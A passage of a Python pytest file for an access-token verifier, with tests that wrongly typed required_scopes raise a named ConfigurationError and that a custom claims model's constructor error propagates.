@pytest.mark.parametrize("value", [(["orders/read"],), ({"a": 1},), 5, True])
def test_names_of_another_type_are_a_mistake_that_is_named(value: object) -> None:
    """The caller learns which argument is wrong."""
    verifier = sync_verifier()
    with pytest.raises(ConfigurationError, match="required_scopes"):
        verifier.verify_access_token(GOOD_TOKEN, required_scopes=value)  # type: ignore[arg-type]


def test_a_claims_model_that_refuses_in_its_constructor() -> None:
    """Whoever checks a claim of his own where his model is made must not be passed by."""

    class OfATenant(AccessTokenClaims):
        def __init__(self, payload: Mapping[str, object]) -> None:
            super().__init__(payload)
            if "tenant" not in payload:
                msg = "no tenant"
                raise LookupError(msg)

    verifier = sync_verifier(access_token_claims=OfATenant)
    with pytest.raises(LookupError, match="no tenant"):
        verifier.verify_access_token(GOOD_TOKEN)
